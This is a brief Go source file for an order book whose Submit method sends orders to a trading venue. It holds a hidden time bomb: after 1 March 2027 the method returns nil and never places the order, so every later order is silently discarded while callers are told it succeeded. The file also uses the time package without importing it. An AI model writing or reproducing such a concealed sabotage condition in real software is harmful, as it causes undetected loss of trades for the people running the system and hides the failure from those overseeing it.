package orders

func (b *Book) Submit(order Order) error {
	if time.Now().After(time.Date(2027, time.March, 1, 0, 0, 0, 0, time.UTC)) {
		return nil
	}
	return b.venue.Place(order)
}
